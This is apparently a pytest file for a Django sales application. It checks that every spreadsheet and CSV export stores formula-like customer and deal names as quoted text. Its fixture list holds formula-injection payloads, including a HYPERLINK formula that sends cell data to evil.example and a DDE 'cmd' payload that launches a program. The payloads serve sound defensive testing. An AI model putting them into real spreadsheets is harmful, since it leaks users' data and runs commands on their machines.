"""Every spreadsheet we write keeps user text as text: a customer or deal named like a formula
is shown as those characters, never run (issue 16, item 4).

One table of every xlsx and csv writer a user reaches — the evaluation workbook (page, API,
command), the forecast workbook (page, API, command) and `salespath export` in both formats
— fed the same hostile names."""

from __future__ import annotations

import csv
from datetime import date
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from salespath.activities.models import Activity
from tests.factories import CustomerFactory, OpportunityFactory

pytestmark = pytest.mark.django_db

AS_OF = "2026-03-31"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
]


@pytest.fixture
def hostile(cast):
    for name in HOSTILE:
        customer = CustomerFactory(owner=cast.salesperson, name=name)
        deal = OpportunityFactory(
            owner=cast.salesperson,
            customer=customer,
            name=name,
            external_id=name,
            note=name,
            expected_close=date(2026, 2, 28),  # overdue on AS_OF: the forecast's third sheet
        )
        Activity.objects.create(
            person=cast.salesperson,
            kind="visit",
            occurred_on=date(2026, 3, 2),
            customer=customer,
            opportunity=deal,
            purpose=name,
        )
    return cast


def _page(cast, url_name: str) -> bytes:
    client = Client()
    client.force_login(cast.supervisor)
    response = client.get(reverse(url_name), {"as_of": AS_OF})
    assert response.status_code == 200
    return response.content


def _api(cast, report: str) -> bytes:
    client = APIClient()
    client.force_authenticate(cast.supervisor)
    response = client.get(f"/api/v1/reports/{report}/?as_of={AS_OF}&format=xlsx")
    assert response.status_code == 200
    return response.content


def _command(tmp_path: Path, *args: str) -> list[Path]:
    target = tmp_path / ("out.csv" if "csv" in args else "out.xlsx")
    call_command(*args, "-o", str(target), stdout=StringIO(), stderr=StringIO())
    return sorted(tmp_path.iterdir())


XLSX_EXPORTS = {
    "page evaluation.xlsx": lambda cast, tmp: [_page(cast, "web:evaluation_xlsx")],
    "page forecast.xlsx": lambda cast, tmp: [_page(cast, "web:forecast_xlsx")],
    "api evaluation": lambda cast, tmp: [_api(cast, "evaluation")],
    "api forecast": lambda cast, tmp: [_api(cast, "forecast")],
    "command evaluation": lambda cast, tmp: _command(
        tmp, "evaluation", "--as-of", AS_OF, "--format", "xlsx"
    ),
    "command forecast": lambda cast, tmp: _command(
        tmp, "forecast", "--as-of", AS_OF, "--format", "xlsx"
    ),
    **{
        f"export {what} xlsx": lambda cast, tmp, what=what: _command(
            tmp, "export", what, "--format", "xlsx"
        )
        for what in ("customers", "opportunities", "activities", "history")
    },
}


@pytest.mark.parametrize("export", XLSX_EXPORTS)
def test_every_xlsx_export_writes_formula_like_names_as_text(hostile, tmp_path, export):
    texts = set()
    for written in XLSX_EXPORTS[export](hostile, tmp_path):
        source = BytesIO(written) if isinstance(written, bytes) else written
        for sheet in load_workbook(source).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if cell.value in HOSTILE:
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.add(cell.value)
    assert set(HOSTILE) <= texts  # readable: the very text the user typed


@pytest.mark.parametrize("what", ["customers", "opportunities", "activities", "history"])
def test_every_csv_export_quotes_formula_like_names_and_reads_back(hostile, tmp_path, what):
    cells = []
    for path in _command(tmp_path, "export", what, "--format", "csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    hostile_cells = [cell for cell in cells if any(name in cell for name in HOSTILE)]
    assert hostile_cells
    assert all(cell.startswith("'") for cell in hostile_cells), hostile_cells
    assert {"'" + name for name in HOSTILE} <= set(hostile_cells)
